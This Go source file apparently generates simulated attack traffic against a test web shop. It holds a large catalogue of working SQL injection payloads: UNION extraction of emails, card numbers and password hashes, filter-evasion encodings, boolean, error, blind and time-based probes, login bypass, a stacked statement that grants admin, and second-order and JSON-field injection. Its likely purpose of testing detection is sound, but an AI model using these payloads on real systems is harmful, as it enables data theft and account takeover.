package traffic

import (
	"context"
	"fmt"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"time"
)

// injector is one round of somebody who knows SQL well and the shop not at all.
type injector struct {
	*visitor
	ctx     context.Context //nolint:containedctx // lives for one round
	columns int             // of the search's SELECT, 0 until found out
	email   string          // of the injector's own account
}

// inject tries technique after technique on every input of the shop.
func inject(ctx context.Context, v *visitor, round int) {
	i := &injector{visitor: v, ctx: ctx, email: fmt.Sprintf("mallory.%d@attacker.example", round)}
	for _, step := range []func(){
		i.quotes, i.countColumns, i.union, i.disguises, i.booleans, i.errors, i.otherInputs, i.loginBypass,
		i.ownAccount, i.stacked, i.secondOrder, i.json, i.blind, i.slow,
	} {
		if ctx.Err() != nil {
			return
		}
		step()
	}
}

// search sends text to the search, as a browser encodes it.
func (i *injector) search(text string) Answer { return i.ask(i.ctx, "/search", "q", text) }

// try sends a search and notes whether planted data came back.
func (i *injector) try(technique, text string) {
	i.tried(technique, i.leaked(i.search(text)) > 0)
}

// quotes looks for a database error.
func (i *injector) quotes() {
	for _, text := range []string{"lamp'", "lamp\"", "lamp')", "lamp'||'", "lamp\\"} {
		i.tried("quote and error", i.search(text).contains("SQL logic error"))
	}
}

// countColumns sorts by ever higher columns until the database objects.
func (i *injector) countColumns() {
	for n := 1; n <= 12; n++ {
		a := i.search(fmt.Sprintf("zz' ORDER BY %d-- -", n))
		if a.Status == http.StatusInternalServerError && n > 1 {
			i.columns = n - 1
			break
		}
		if a.Status != http.StatusOK {
			break
		}
	}
	i.tried("columns by ORDER BY", i.columns > 0)
	if i.columns == 0 {
		i.columns = 7 // a guess, so that the rest is tried all the same
	}
}

// selects writes "SELECT a, b, NULL ..." with as many columns as the search has.
func (i *injector) selects(rest string, columns ...string) string {
	for len(columns) < i.columns {
		columns = append(columns, "NULL")
	}
	return "SELECT " + strings.Join(columns[:i.columns], ",") + " " + rest
}

func (i *injector) union() {
	i.search("zz' UNION " + i.selects("FROM sqlite_master-- -", "1", "name", "type", "sql"))
	i.try("UNION", "zz' UNION "+i.selects("FROM users-- -", "id", "name", "email", "email||' '||card"))
	i.try("UNION", "zz' UNION ALL "+i.selects("FROM users WHERE role='admin'-- -", "id", "name", "email", "password_hash||' '||email"))
	i.try("UNION", "zz' UNION "+i.selects("", "1", "(SELECT group_concat(email) FROM users)", "(SELECT group_concat(card) FROM users)", "(SELECT group_concat(password_hash) FROM users)")+"-- -")
}

// disguises says the same in other words, spellings and encodings.
func (i *injector) disguises() {
	plain := "zz' UNION " + i.selects("FROM users-- -", "id", "name", "email", "email||card")
	i.try("comments for spaces", strings.ReplaceAll(plain, " ", "/**/"))
	i.try("comments for spaces", "zz'/*! */UNION/*x*/"+strings.ReplaceAll(i.selects("FROM users", "id", "name", "email", "email"), " ", "/*lamp*/")+"--")
	for _, space := range []string{"\n", "\t", "\f", "\r\n", "--\n", "-- lamp\n"} {
		i.try("other white space", strings.ReplaceAll(strings.TrimSuffix(plain, "-- -"), " ", space)+"-- -")
	}
	i.try("mixed case", "zz' uNiOn "+strings.NewReplacer("SELECT", "sElEcT", "FROM", "fRoM", "users", "uSeRs").Replace(i.selects("FROM users-- -", "id", "name", "email", "email")))
	i.try("few spaces", "zz1'UNION/**/"+strings.ReplaceAll(i.selects("FROM`users`--", "(id)", "(name)", "(email)", "(card)"), "SELECT ", "SELECT"))
	i.try("quoted names", `zz' UNION `+i.selects(`FROM "main"."users"-- -`, `"id"`, "[name]", "`email`", `"users"."card"`))
	i.try("char() and ||", "zz' UNION "+i.selects("FROM users WHERE role=char(97)||char(100)||char(109)||char(105)||char(110)-- -", "id", "name", "email", "card"))
	i.try("hex literals", "zz' UNION "+i.selects("FROM users WHERE CAST(x'61646d696e' AS TEXT)=role-- -", "id", "name", "email", "card"))
	i.try("common table expression", "zz' UNION SELECT * FROM (WITH u AS (SELECT * FROM users) "+i.selects("FROM u)-- -", "id", "name", "email", "card"))
	i.try("encoded twice", url.QueryEscape(plain))
	raw := i.get(i.ctx, "/search?q="+strings.ReplaceAll(url.QueryEscape(plain), "UNION", "%55NION"))
	i.tried("encoded letters", i.leaked(raw) > 0)
	raw = i.get(i.ctx, "/search?q="+url.QueryEscape(plain)+"&q=lamp")
	i.tried("repeated parameter", i.leaked(raw) > 0)
}

// differs reports whether the page changes with a condition.
func (i *injector) differs(yes, no string) bool {
	a, b := i.search(yes), i.search(no)
	return a.Status == http.StatusOK && b.Status == http.StatusOK && lamps(a) > 0 && lamps(b) == 0
}

func lamps(a Answer) int { return strings.Count(a.Body, `<a class="card"`) }

func (i *injector) booleans() {
	for _, pair := range [][2]string{
		{"lamp%' AND 1=1 AND '%'='", "lamp%' AND 1=2 AND '%'='"},
		{"lamp%' AND 'a' LIKE 'a' AND '1%'='1", "lamp%' AND 'a' LIKE 'b' AND '1%'='1"},
		{"lamp%' AND 5 BETWEEN 1 AND 9-- -", "lamp%' AND 5 BETWEEN 6 AND 9-- -"},
		{"lamp%' AND NOT 0 IN (1,2)-- -", "lamp%' AND NOT 1 IN (1,2)-- -"},
		{"lamp%'/**/&&/**/1-- -", "lamp%'/**/&&/**/0-- -"},
		{"lamp%' AND CASE WHEN 1 THEN 1 ELSE 0 END-- -", "lamp%' AND CASE WHEN 0 THEN 1 ELSE 0 END-- -"},
		{"zz' OR 2>1-- -", "zz' OR 2<1-- -"},
	} {
		i.tried("boolean", i.differs(pair[0], pair[1]))
	}
}

// errors makes the database quote data in its error messages.
func (i *injector) errors() {
	for n := range 3 {
		i.try("error message", fmt.Sprintf("lamp%%' AND json_extract('{}',(SELECT email||' '||card FROM users LIMIT 1 OFFSET %d))-- -", 5+n))
	}
}

// blind reads the first admin's reset code, one question at a time.
func (i *injector) blind() {
	code := ""
	for at := 1; at <= 6; at++ {
		low, high := 0, 9
		for low < high {
			middle := (low + high + 1) / 2
			a := i.search(fmt.Sprintf("lamp%%' AND (SELECT substr(reset_code,%d,1)>='%d' FROM users WHERE id=1)-- -", at, middle))
			if a.Status != http.StatusOK {
				i.tried("blind, bit by bit", false)
				return
			}
			if lamps(a) > 0 {
				low = middle
			} else {
				high = middle - 1
			}
		}
		code += strconv.Itoa(low)
	}
	right := i.crowd.knows(code)
	i.tried("blind, bit by bit", right)
	if right {
		i.took(lootSecret, code)
	}
}

// slow asks by the time an answer takes.
func (i *injector) slow() {
	ask := func(n int) time.Duration {
		a := i.search(fmt.Sprintf("lamp%%' AND (WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c WHERE x<%d) SELECT count(*) FROM c)-- -", n))
		if a.Status != http.StatusOK {
			return 0
		}
		return a.Took
	}
	quick, late := ask(2), ask(400000)
	i.tried("time", quick > 0 && late > 3*quick+20*time.Millisecond)
}

// otherInputs injects into a number in the path and into the category.
func (i *injector) otherInputs() {
	for _, id := range []string{
		"0 UNION SELECT id,name,email,card||' '||email,1,1,'' FROM users WHERE id=9", "-1 UNION ALL SELECT 1,group_concat(email),'',group_concat(card),1,1,'' FROM users",
		"0/**/UNION/**/SELECT(id),(name),(email),(card),1,1,''FROM(users)WHERE(id)=11", "7 AND 0 UNION SELECT id,email,email,card,1,1,'' FROM users LIMIT 1 OFFSET 12",
	} {
		a := i.get(i.ctx, "/product/"+url.PathEscape(id))
		i.tried("number in the path", i.leaked(a) > 0)
	}
	a := i.ask(i.ctx, "/products", "category", "none' UNION SELECT id,name,email,email||card,1,1,'' FROM users-- -")
	i.tried("category", i.leaked(a) > 0)
}

// loginBypass logs in as somebody without a password and looks at the staff page.
func (i *injector) loginBypass() {
	for _, email := range []string{"' OR role='admin'-- -", "nobody' OR 1=1 ORDER BY id-- -", "x' UNION SELECT 1,'root','root','admin'-- -", "admin'/*"} {
		v := i.from(i.ip)
		a := v.post(i.ctx, "/login", "email", email, "password", "whatever")
		in := a.Status == http.StatusSeeOther && a.Place == "/account"
		i.tried("login bypass", in)
		if in {
			v.leaked(v.get(i.ctx, "/admin"))
		}
	}
}

// ownAccount signs up, or logs in when an earlier round has done so.
func (i *injector) ownAccount() {
	a := i.post(i.ctx, "/signup", "name", "Mallory Grey", "email", i.email, "password", "correct-horse")
	if a.Status != http.StatusSeeOther {
		i.post(i.ctx, "/login", "email", i.email, "password", "correct-horse")
	}
}

// stacked appends a second statement that makes the own account an admin's.
func (i *injector) stacked() {
	i.search("zz'; UPDATE users SET role='admin' WHERE email='" + i.email + "'-- -")
	a := i.get(i.ctx, "/admin")
	i.tried("stacked statement", i.leaked(a) > 0)
}

// secondOrder stores an injection and lets the account page run it.
func (i *injector) secondOrder() {
	i.post(i.ctx, "/account/search", "q", "zz' UNION "+i.selects("FROM users WHERE id BETWEEN 20 AND 29-- -", "id", "name", "email", "email||card"))
	i.tried("second order", i.leaked(i.get(i.ctx, "/account")) > 0)
	i.post(i.ctx, "/account/search", "q", "lantern")
}

// json injects into a field of the checkout call.
func (i *injector) json() {
	for _, coupon := range []string{"x' UNION SELECT group_concat(email||card) FROM users-- -", "x'/**/UNION/**/SELECT/**/group_concat(email)/**/FROM/**/users--"} {
		a := i.postJSON(i.ctx, "/api/checkout", map[string]string{"coupon": coupon})
		i.tried("field of a JSON call", i.leaked(a) > 0)
	}
}

// knows reports whether text is a planted reset code.
func (c *Crowd) knows(code string) bool {
	return c.loot.codes[code]
}
